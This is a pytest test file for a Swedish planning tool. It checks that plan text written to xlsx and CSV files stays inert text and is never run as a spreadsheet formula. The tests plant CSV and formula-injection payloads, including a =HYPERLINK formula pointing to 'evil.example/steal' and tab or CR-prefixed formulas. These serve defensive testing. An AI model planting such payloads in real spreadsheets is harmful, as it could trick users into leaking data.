"""Plan text never becomes a live formula in a spreadsheet (issue 11, item 2).

Each attack is planted in every plan text that reaches an xlsx or a CSV: municipality,
project title, one-off cost, scenario title, timeline task and its responsible person,
and a communication plan's activity and responsible people.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from fractions import Fraction
from pathlib import Path

import openpyxl
import pytest
from conftest import COMMUNICATION, PROJECT
from ruamel.yaml import YAML
from test_cost import _evaluate

from dialogkit.checking import load_plan
from dialogkit.costs import compare
from dialogkit.render import cost as cost_render
from dialogkit.render import timeline as timeline_render
from dialogkit.render.cells import Formula, csv_text, csv_value, write_row
from dialogkit.timeline import build_timeline
from dialogkit.workload import Workload

HYPERLINK = '=HYPERLINK("http://evil.example/steal","Klicka här")'
PAYLOADS = ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", HYPERLINK]
CONTROL_PREFIXES = ["\t", "\r"]
BOM = b"\xef\xbb\xbf"
TOOL_FORMULA = re.compile(
    r"=(SUM\([A-Z]+\d+:[A-Z]+\d+\)|[A-Z]+\d+([+-][A-Z]+\d+)?|'(?P<sheet>[^']+)'![A-Z]+\d+)"
)
"""Every formula dialogkit writes itself: a SUM over a range, a reference, a sum or
difference of two references, or a reference to another sheet."""


# --- plans with the attack planted ------------------------------------------------------


def _dump(plan: dict) -> str:
    out = io.StringIO()
    yaml = YAML(typ="safe", pure=True)
    yaml.default_flow_style = False
    yaml.allow_unicode = True
    yaml.dump(plan, out)
    return out.getvalue()


def _load(text: str) -> dict:
    return YAML(typ="safe", pure=True).load(text)


def hostile_project(text: str) -> str:
    """The test project with every spreadsheet text starting with `text`."""
    plan = _load(PROJECT)
    plan["title"] = f"{text} titel"
    plan["municipalities"] = [text, "Köping"]
    plan["dialogues"][0]["municipality"] = text
    plan["costs"]["one_off"] = [{"item": f"{text} post", "amount": 20000}]
    plan["costs"]["scenarios"] = [{"id": "alt", "title": f"{text} scenario", "format": "digital"}]
    plan["timeline"][0].update(task=f"{text} uppgift", responsible=f"{text} ansvarig")
    return _dump(plan)


def hostile_communication(text: str) -> str:
    plan = _load(COMMUNICATION)
    plan["activities"][0].update(
        what=f"{text} aktivitet", responsible=[f"{text} ansvarig", "Kim Kontakt"]
    )
    return _dump(plan)


# --- reading the outputs back -----------------------------------------------------------


def parse_csv(text: str) -> list[dict[str, str]]:
    """The rows of a dialogkit CSV, as Swedish Excel would read it: UTF-8 after a BOM."""
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline=""), delimiter=";"))


def read_csv(path: Path) -> list[dict[str, str]]:
    data = path.read_bytes()
    assert data.startswith(BOM)
    return parse_csv(data.decode("utf-8"))


def ooxml_text(value):
    """A cell's text as Excel shows it: openpyxl leaves a control character in the
    file's escaped form (`_x000D_` for a CR), which Excel and LibreOffice decode."""
    if not isinstance(value, str):
        return value
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), value)


def text_cell(sheet, value: str):
    """The one cell holding exactly `value`, which must be a text cell."""
    cells = [c for row in sheet.iter_rows() for c in row if ooxml_text(c.value) == value]
    assert len(cells) == 1, f"{value!r} in {sheet.title}: {[c.coordinate for c in cells]}"
    assert cells[0].data_type == "s", (cells[0].coordinate, cells[0].data_type)
    return cells[0]


def formula_cells(book) -> dict[tuple[int, str], str]:
    """Every formula cell as (sheet index, coordinate) → formula. Each is one dialogkit
    writes itself, and a reference to a sheet names a sheet of the book."""
    formulas = {}
    for index, sheet in enumerate(book.worksheets):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    match = TOOL_FORMULA.fullmatch(cell.value)
                    assert match, (sheet.title, cell.coordinate, cell.value)
                    assert match["sheet"] in (None, *book.sheetnames)
                    formulas[index, cell.coordinate] = cell.value
    return formulas


def run_ok(run, *args):
    result = run(*args)
    assert result.exit_code == 0, result.stdout + result.stderr
    return result


# --- through the command line -----------------------------------------------------------


@pytest.fixture
def clean_formulas(run, write, tmp_path):
    """The formula cells of the cost and workload workbooks of harmless plans."""
    project = write(hostile_project("Sala"), "clean/projekt.yaml")
    communication = write(hostile_communication("Kim"), "clean/komplan.yaml")
    run_ok(run, "cost", project, "-s", "alt", "-f", "xlsx", "-o", tmp_path / "clean/k.xlsx")
    run_ok(run, "cost", communication, "-f", "xlsx", "-o", tmp_path / "clean/t.xlsx")
    return {
        "cost": formula_cells(openpyxl.load_workbook(tmp_path / "clean/k.xlsx")),
        "workload": formula_cells(openpyxl.load_workbook(tmp_path / "clean/t.xlsx")),
    }


def assert_cost_workbook(path: Path, text: str, clean: dict) -> None:
    book = openpyxl.load_workbook(path)
    compare_sheet = book.worksheets[0]
    column = text_cell(compare_sheet, f"{text} scenario").column
    plan, scenario = book.worksheets[1], book.worksheets[column - 1]
    assert text_cell(plan, f"{text} titel: Planen").coordinate == "A1"
    assert text_cell(scenario, f"{text} titel: {text} scenario").coordinate == "A1"
    for sheet in (plan, scenario):
        municipality = text_cell(sheet, text)
        assert municipality.column == 1
        item = text_cell(sheet, f"{text} post")
        amount = sheet.cell(item.row, 8)
        assert (amount.value, amount.data_type, amount.number_format) == (
            20000,
            "n",
            cost_render.MONEY_FORMAT,
        )
        fees = sheet.cell(municipality.row, 4)
        assert (fees.value, fees.data_type) == (4000, "n")
    # the tool's own formulas: the same cells as for a harmless plan, and they add up
    assert formula_cells(book).keys() == clean["cost"].keys()
    assert plan["H6"].value == "=SUM(H4:H5)"
    totals = next(r for r in compare_sheet.iter_rows() if r[0].value == "Totalt")
    assert _evaluate(book, compare_sheet.title, totals[1].coordinate) == 9000 + 4000 + 20000
    assert _evaluate(book, compare_sheet.title, totals[column - 1].coordinate) == 28_000


def assert_workload_workbook(path: Path, text: str, clean: dict) -> None:
    book = openpyxl.load_workbook(path)
    sheet = book.active
    person = text_cell(sheet, f"{text} ansvarig")
    hours = [sheet.cell(person.row, c) for c in range(2, sheet.max_column)]
    assert all(c.data_type == "n" for c in hours)
    assert formula_cells(book).keys() == clean["workload"].keys()
    total = sheet.cell(sheet.max_row, sheet.max_column).coordinate
    assert _evaluate(book, sheet.title, total) == pytest.approx(6)


def assert_project_timeline_csv(path: Path, text: str) -> None:
    rows = read_csv(path)
    task = next(r for r in rows if r["id"] == "uppgift-1")
    assert (task["vad"], task["ansvarig"]) == (f"'{text} uppgift", f"'{text} ansvarig")
    assert next(r for r in rows if r["id"] == "sala")["vad"] == f"'{text}"
    assert len(rows) == 4  # two tasks, two dialogues


def assert_communication_timeline_csv(path: Path, text: str) -> None:
    (row,) = read_csv(path)
    assert row["vad"] == f"'{text} aktivitet"
    assert row["ansvarig"] == f"'{text} ansvarig, Kim Kontakt"


@pytest.mark.slow
@pytest.mark.parametrize("text", PAYLOADS)
def test_cost_xlsx_keeps_plan_text_as_text(run, write, tmp_path, clean_formulas, text):
    out = tmp_path / "kostnad.xlsx"
    run_ok(run, "cost", write(hostile_project(text)), "-s", "alt", "-f", "xlsx", "-o", out)
    assert_cost_workbook(out, text, clean_formulas)


@pytest.mark.slow
@pytest.mark.parametrize("text", PAYLOADS)
def test_workload_xlsx_keeps_names_as_text(run, write, tmp_path, clean_formulas, text):
    out = tmp_path / "timmar.xlsx"
    run_ok(run, "cost", write(hostile_communication(text)), "-f", "xlsx", "-o", out)
    assert_workload_workbook(out, text, clean_formulas)


@pytest.mark.slow
@pytest.mark.parametrize("text", PAYLOADS)
def test_cost_csv_neutralises_text_and_keeps_numbers(run, write, tmp_path, text):
    out = tmp_path / "kostnad.csv"
    run_ok(run, "cost", write(hostile_project(text)), "-s", "alt", "-f", "csv", "-o", out)
    rows = read_csv(out)
    assert len(rows) == 2 * 3  # two dialogues and one one-off cost, in two estimates
    assert {r["scenario"] for r in rows} == {"Planen", f"'{text} scenario"}
    assert [r["kommun"] for r in rows if r["id"] == "sala"] == [f"'{text}"] * 2
    one_off = [r for r in rows if r["typ"] == "engångskostnad"]
    assert [r["kommun"] for r in one_off] == [f"'{text} post"] * 2
    assert [r["summa"] for r in one_off] == ["20000", "20000"]
    assert sum(int(r["summa"]) for r in rows) == 33_000 + 28_000
    # numbers are written bare, text quoted: a spreadsheet reads the former as numbers
    assert ";4000;2000;1500;1500;9000\n" in out.read_text(encoding="utf-8-sig")


@pytest.mark.parametrize("text", PAYLOADS)
def test_timeline_csv_neutralises_text(run, write, tmp_path, text):
    project, communication = tmp_path / "p.csv", tmp_path / "k.csv"
    run_ok(run, "timeline", write(hostile_project(text), "p.yaml"), "-f", "csv", "-o", project)
    assert_project_timeline_csv(project, text)
    plan = write(hostile_communication(text), "k.yaml")
    run_ok(run, "timeline", plan, "-f", "csv", "-o", communication)
    assert_communication_timeline_csv(communication, text)


@pytest.mark.slow
def test_build_writes_no_formula_from_plan_text(run, write, tmp_path):
    """One workspace holds a harmless project and communication plan and one of each
    per attack; a single build writes them all."""
    texts = {"clean": "Sala", **{f"p{number}": text for number, text in enumerate(PAYLOADS)}}
    for name, text in texts.items():
        project = hostile_project(text).replace("id: testprojekt", f"id: projekt-{name}")
        for member in ("Anna A", "Bo B", "Cia C"):  # each project its own members (DK236)
            project = project.replace(member, f"{member} {name}")
        write(project, f"ws/plans/projekt-{name}.yaml")
        write(
            hostile_communication(text).replace("id: komplan", f"id: komplan-{name}"),
            f"ws/plans/komplan-{name}.yaml",
        )
    out = tmp_path / "out"
    run_ok(run, "build", tmp_path / "ws" / "plans", "--out", out, "--today", "2021-05-01")
    clean = {
        "cost": formula_cells(openpyxl.load_workbook(out / "projekt-clean" / "kostnad.xlsx")),
        "workload": formula_cells(
            openpyxl.load_workbook(out / "komplan-clean" / "arbetsbelastning.xlsx")
        ),
    }
    for name, text in list(texts.items())[1:]:
        project, communication = out / f"projekt-{name}", out / f"komplan-{name}"
        assert_cost_workbook(project / "kostnad.xlsx", text, clean)
        assert_workload_workbook(communication / "arbetsbelastning.xlsx", text, clean)
        assert_project_timeline_csv(project / "tidsaxel.csv", text)
        assert_communication_timeline_csv(communication / "tidsaxel.csv", text)


@pytest.mark.parametrize("prefix", CONTROL_PREFIXES)
def test_tab_or_cr_in_a_plan_is_refused_or_neutralised(run, write, tmp_path, prefix):
    """The plan model may refuse control characters in one-line texts; if it accepts
    them, they reach the CSV neutralised and a CR starts no new row."""
    text = f"{prefix}=1+1\rrad två"
    out = tmp_path / "kostnad.csv"
    result = run("cost", write(hostile_project(text)), "-s", "alt", "-f", "csv", "-o", out)
    if result.exit_code != 0:
        assert result.exit_code == 1, result.stderr
        assert "plan.yaml" in result.stderr and "Traceback" not in result.stderr
        assert not out.exists()
        return
    rows = read_csv(out)
    assert len(rows) == 6
    assert [r["kommun"] for r in rows if r["id"] == "sala"] == [f"'{text}"] * 2


# --- through the library: control characters the model might refuse ---------------------


@pytest.fixture
def project(write):
    return load_plan(write(PROJECT), "dialogue_project").plan


@pytest.mark.parametrize("prefix", CONTROL_PREFIXES)
def test_renderers_neutralise_tab_and_cr(project, prefix, tmp_path):
    text = f"{prefix}=1+1\rrad två"  # a bare CR, without the LF that gets a field quoted
    # model_copy does not validate: the text reaches the renderers whatever the model allows
    costs = project.costs
    project = project.model_copy(
        update={
            "title": text,
            "dialogues": [
                project.dialogues[0].model_copy(update={"municipality": text}),
                *project.dialogues[1:],
            ],
            "costs": costs.model_copy(
                update={
                    # a credit: a negative number, not text
                    "one_off": [
                        costs.one_off[0].model_copy(
                            update={"item": f"{text} post", "amount": -5000}
                        )
                    ]
                }
            ),
            "timeline": [
                project.timeline[0].model_copy(update={"task": text, "responsible": [text]}),
                *project.timeline[1:],
            ],
        }
    )
    estimates = compare(project, ["all-digital"])

    rows = parse_csv(cost_render.render_estimate_csv(estimates))
    assert len(rows) == 2 * 3
    assert [r["kommun"] for r in rows if r["id"] == "sala"] == [f"'{text}"] * 2
    one_off = [r for r in rows if r["typ"] == "engångskostnad"]
    assert [(r["kommun"], r["summa"]) for r in one_off] == [(f"'{text} post", "-5000")] * 2

    rendered = timeline_render.render_csv(build_timeline(project), project.dialogues[0].date)
    rows = parse_csv(rendered)
    assert len(rows) == len(project.timeline) + len(project.dialogues)
    task = next(r for r in rows if r["id"] == "uppgift-1")
    assert (task["vad"], task["ansvarig"]) == (f"'{text}", f"'{text}")

    path = tmp_path / "k.xlsx"
    path.write_bytes(cost_render.render_estimate_xlsx(estimates, project.title))
    sheet = openpyxl.load_workbook(path).worksheets[1]
    assert text_cell(sheet, f"{text}: Planen").coordinate == "A1"
    assert text_cell(sheet, text).column == 1  # the municipality
    assert text_cell(sheet, f"{text} post").column == 1
    credit = [c for c in sheet["H"] if c.value == -5000]
    assert [c.data_type for c in credit] == ["n"]


@pytest.mark.parametrize("prefix", CONTROL_PREFIXES)
def test_workload_renderers_neutralise_tab_and_cr(prefix, tmp_path):
    person = f"{prefix}=1+1\rrad två"
    load = Workload("Plan", [(2023, 1)], [person], {(person, (2023, 1)): Fraction(3, 2)})
    rendered = cost_render.render_workload_csv(load)
    assert rendered.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(rendered.removeprefix("\ufeff"), newline=""), delimiter=";"))
    assert rows == [["ansvarig", "månad", "timmar"], [f"'{person}", "2023-01", "1,50"]]
    assert rendered.endswith(";1,50\n")  # a number with a Swedish decimal comma, unquoted
    path = tmp_path / "t.xlsx"
    path.write_bytes(cost_render.render_workload_xlsx(load))
    sheet = openpyxl.load_workbook(path).active
    assert text_cell(sheet, person).coordinate == "A4"  # under the title and the header
    assert (sheet["B4"].value, sheet["B4"].data_type) == (1.5, "n")
    assert (sheet["C4"].value, sheet["C4"].data_type) == ("=SUM(B4:B4)", "f")


# --- the helpers ------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_value_prefixes_a_formula_start(prefix):
    assert csv_value(f"{prefix}1+1") == f"'{prefix}1+1"


@pytest.mark.parametrize("value", ["Sala", "Sala = bra", "", "'redan citerad", " =1+1"])
def test_csv_value_leaves_other_text(value):
    assert csv_value(value) == value


@pytest.mark.parametrize("value", [-5000, 0, 4000, -1.5, Decimal("-1.50"), None])
def test_csv_value_leaves_numbers(value):
    assert csv_value(value) is value


def test_csv_text_quotes_line_breaks_and_keeps_numbers_bare():
    text = csv_text([("namn", "belopp"), ("a\rb", -5000), ("c\nd;e", Decimal("-1.50"))])
    assert text.startswith("\ufeff")
    assert text.count("\n") == 3 + 1  # three rows, one LF inside a quoted value
    assert ";-5000\n" in text and ";-1.50\n" in text and "'-" not in text
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))
    assert rows == [["namn", "belopp"], ["a\rb", "-5000"], ["c\nd;e", "-1.50"]]


def test_write_row_writes_strings_as_text_and_formulas_as_formulas(tmp_path):
    import xlsxwriter

    book = xlsxwriter.Workbook(tmp_path / "b.xlsx")
    values = ["=1+1", Formula("=SUM(C1:C1)", -5), -5, "#REF!", None, "@A1"]
    write_row(book.add_worksheet(), 0, values)
    book.close()
    row = openpyxl.load_workbook(tmp_path / "b.xlsx").active[1]
    assert [(c.value, c.data_type) for c in row] == [
        ("=1+1", "s"),
        ("=SUM(C1:C1)", "f"),
        (-5, "n"),
        ("#REF!", "s"),
        (None, "n"),
        ("@A1", "s"),
    ]
    stored = openpyxl.load_workbook(tmp_path / "b.xlsx", data_only=True).active["B1"]
    assert stored.value == -5  # the formula's value, for viewers that do not calculate


@pytest.mark.parametrize("title", ["'History", "History", "'citerad'", "a" * 40 + "[x]"])
def test_sheet_names_from_scenario_titles_are_ones_excel_accepts(run, write, tmp_path, title):
    plan = _load(PROJECT)
    plan["costs"]["scenarios"] = [{"id": "alt", "title": title, "format": "digital"}]
    out = tmp_path / "k.xlsx"
    run_ok(run, "cost", write(_dump(plan)), "-s", "alt", "--format", "xlsx", "--out", out)
    for name in openpyxl.load_workbook(out).sheetnames:
        assert len(name) <= 31 and not re.search(r"[\[\]:*?/\\]", name)
        assert not name.startswith("'") and not name.endswith("'")
        assert name.lower() != "history"
